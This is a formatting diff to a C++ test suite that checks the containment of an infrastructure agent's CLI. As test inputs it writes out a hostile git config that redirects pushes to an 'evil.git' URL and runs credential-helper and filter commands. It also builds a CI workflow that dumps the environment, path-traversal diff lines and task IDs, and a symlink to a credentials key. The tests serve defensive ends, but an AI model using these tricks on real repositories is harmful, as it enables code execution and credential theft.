@@ -99,10 +99,10 @@ protected:
     void configure(const std::string& script, const std::string& extra = "")
     {
         json command = json::array({"sh", "-c", script});
-        test::write_file(home() / "config.yaml",
-                         "exec:\n  command: " + command.dump() + "\n" +
-                             "validation:\n  steps:\n    - name: versioning enabled\n      run: [grep, -q, Enabled, \"{dir}/main.tf\"]\n" +
-                             extra);
+        test::write_file(home() / "config.yaml", "exec:\n  command: " + command.dump() + "\n" +
+                                                     "validation:\n  steps:\n    - name: versioning enabled\n      "
+                                                     "run: [grep, -q, Enabled, \"{dir}/main.tf\"]\n" +
+                                                     extra);
     }
 
     void enqueue(const std::string& id, const std::string& agent)
@@ -112,8 +112,11 @@ protected:
                      {"title", "enable versioning"},
                      {"trigger", {{"source", "api"}, {"provider", "test"}, {"timestamp", "2026-12-06T12:00:00Z"}}},
                      {"context", {{"agentSlug", agent}, {"environment", "staging"}, {"repositoryId", "acme/infra"}}},
-                     {"payload", {{"finding", {{"canonicalRuleId", "CKV_AWS_21"}, {"file", "main.tf"},
-                                               {"resource", "aws_s3_bucket_versioning.logs"}}}}},
+                     {"payload",
+                      {{"finding",
+                        {{"canonicalRuleId", "CKV_AWS_21"},
+                         {"file", "main.tf"},
+                         {"resource", "aws_s3_bucket_versioning.logs"}}}}},
                      {"dedupeKey", "containment-" + id}};
         auto o = opts;
         o.stdin_data = task.dump() + "\n";
@@ -143,15 +146,16 @@ protected:
 /// A remote that takes any credential, counting pushes.
 std::unique_ptr<test::GitHttpServer> open_remote(const fs::path& root)
 {
-    return std::make_unique<test::GitHttpServer>(root, [](const std::string&, const std::string& password, const std::string&,
-                                                          bool) { return !password.empty(); });
+    return std::make_unique<test::GitHttpServer>(root, [](const std::string&, const std::string& password,
+                                                          const std::string&, bool) { return !password.empty(); });
 }
 
 std::string hostile_git_config(const std::string& evil_url, const fs::path& marker)
 {
     return "[core]\n\tworktree = ../../../keys\n[remote \"origin\"]\n\turl = " + evil_url +
-           "\n\tpushurl = " + evil_url + "\n[include]\n\tpath = ../../../config.yaml\n[filter \"evil\"]\n\tclean = touch " +
-           marker.string() + "\n\tsmudge = touch " + marker.string() + "\n[credential]\n\thelper = !touch " + marker.string() + "\n";
+           "\n\tpushurl = " + evil_url +
+           "\n[include]\n\tpath = ../../../config.yaml\n[filter \"evil\"]\n\tclean = touch " + marker.string() +
+           "\n\tsmudge = touch " + marker.string() + "\n[credential]\n\thelper = !touch " + marker.string() + "\n";
 }
 
 TEST_F(ContainmentCli, AnExecAgentsGitConfigSteersNeitherTheCommitNorThePush)
@@ -220,13 +224,15 @@ TEST_F(ContainmentCli, AFilterDriverInGitattributesRunsNothing)
     auto remote = open_remote(dir / "remote");
     // Policy names .gitattributes, so the change goes through: the filter it
     // names is still no program the host runs.
-    test::write_file(home() / "policies/paths.yaml",
-                     "apiVersion: infra-agent/v1\nkind: Policy\nmetadata: {name: repo-paths, level: repository}\nrules:\n"
-                     "  - name: attributes-too\n    match: {type: compliance-remediation}\n"
-                     "    constraints: {allowedPaths: [\"*.tf\", .gitattributes]}\n");
+    test::write_file(
+        home() / "policies/paths.yaml",
+        "apiVersion: infra-agent/v1\nkind: Policy\nmetadata: {name: repo-paths, level: repository}\nrules:\n"
+        "  - name: attributes-too\n    match: {type: compliance-remediation}\n"
+        "    constraints: {allowedPaths: [\"*.tf\", .gitattributes]}\n");
     std::string config = hostile_git_config("http://127.0.0.1:9/evil.git", dir / "pwned");
     configure("sed -i s/Disabled/Enabled/ main.tf && printf '*.tf filter=evil\\n' > .gitattributes && mkdir -p .git && "
-              "cat > .git/config <<'EOF'\n" + config + "EOF\necho fixed");
+              "cat > .git/config <<'EOF'\n" +
+              config + "EOF\necho fixed");
     enqueue("01CONTAINATTR0000000000001", "exec");
     auto w = work(remote->url() + "acme.git");
     ASSERT_EQ(w.exit_code, 0) << w.err;
@@ -241,9 +247,10 @@ TEST_F(ContainmentCli, AFilterDriverInGitattributesRunsNothing)
 TEST_F(ContainmentCli, AChangeToCiDefinitionsIsRefusedUnlessPolicyNamesThem)
 {
     auto remote = open_remote(dir / "remote");
-    configure("sed -i s/Disabled/Enabled/ main.tf && mkdir -p .github/workflows && "
-              "printf 'on: push\\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: env}]}}\\n' > .github/workflows/ci.yml && "
-              "printf 'stages: [x]\\n' > .gitlab-ci.yml && echo fixed");
+    configure(
+        "sed -i s/Disabled/Enabled/ main.tf && mkdir -p .github/workflows && "
+        "printf 'on: push\\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: env}]}}\\n' > .github/workflows/ci.yml && "
+        "printf 'stages: [x]\\n' > .gitlab-ci.yml && echo fixed");
     enqueue("01CONTAINCI000000000000001", "exec");
     auto w = work(remote->url() + "acme.git");
     auto task = show("01CONTAINCI000000000000001");
@@ -272,8 +279,9 @@ TEST_F(ContainmentCli, AForgedDiffLineRemovesNothingOutsideTheWorktree)
     // <home>/worktrees/<task>-1/../../../victim is dir/victim.
     test::write_file(dir / "victim/.terraform/providers/keep", "keep");
     test::write_file(dir / "victim/main.tf", "keep");
-    configure("sed -i s/Disabled/Enabled/ main.tf && printf 'locals {\\n  note = <<EOT\\n++ b/../../../victim/main.tf\\n"
-              "++ b/../../../home/x.tf\\nEOT\\n}\\n' >> main.tf && echo fixed");
+    configure(
+        "sed -i s/Disabled/Enabled/ main.tf && printf 'locals {\\n  note = <<EOT\\n++ b/../../../victim/main.tf\\n"
+        "++ b/../../../home/x.tf\\nEOT\\n}\\n' >> main.tf && echo fixed");
     enqueue("01CONTAINDIFF0000000000001", "exec");
     auto w = work(remote->url() + "acme.git");
     ASSERT_EQ(w.exit_code, 0) << w.err;
@@ -290,7 +298,8 @@ TEST_F(ContainmentCli, LinksThatLeadOutAreRefusedFromEveryAgent)
 {
     auto remote = open_remote(dir / "remote");
     configure("sed -i s/Disabled/Enabled/ main.tf && mkdir -p d/.infra-agent && "
-              "ln -s " + (home() / "keys/local-creds.key").string() + " d/.infra-agent/creds.tf && echo fixed");
+              "ln -s " +
+              (home() / "keys/local-creds.key").string() + " d/.infra-agent/creds.tf && echo fixed");
     enqueue("01CONTAINLINK0000000000001", "exec");
     work(remote->url() + "acme.git");
     auto task = show("01CONTAINLINK0000000000001");
@@ -313,7 +322,8 @@ TEST_F(ContainmentCli, LinksThatLeadOutAreRefusedFromEveryAgent)
 
 TEST_F(ContainmentCli, TaskIdsCannotNameDirectories)
 {
-    for (const std::string& id : std::vector<std::string>{".", "..", "a/b", "a.b", "../x", std::string(300, 'a'), "a b", "ab\xc3\xa9"}) {
+    for (const std::string& id :
+         std::vector<std::string>{".", "..", "a/b", "a.b", "../x", std::string(300, 'a'), "a b", "ab\xc3\xa9"}) {
         json task = {{"id", id},
                      {"type", "compliance-remediation"},
                      {"trigger", {{"source", "api"}, {"provider", "test"}, {"timestamp", "2026-12-06T12:00:00Z"}}},
@@ -325,7 +335,8 @@ TEST_F(ContainmentCli, TaskIdsCannotNameDirectories)
         for (const std::vector<std::string>& cmd : {std::vector<std::string>{"enqueue"}, {"ingest", "api"}}) {
             auto r = run_cli(cmd, o);
             EXPECT_EQ(r.exit_code, 65) << cmd[0] << " " << id << ": " << r.err;
-            EXPECT_NE(r.err.find("id: expected 1 to 128 ASCII letters, digits, '-' or '_'"), std::string::npos) << r.err;
+            EXPECT_NE(r.err.find("id: expected 1 to 128 ASCII letters, digits, '-' or '_'"), std::string::npos)
+                << r.err;
         }
     }
     auto ls = run_cli({"queue", "ls", "--json"}, opts);
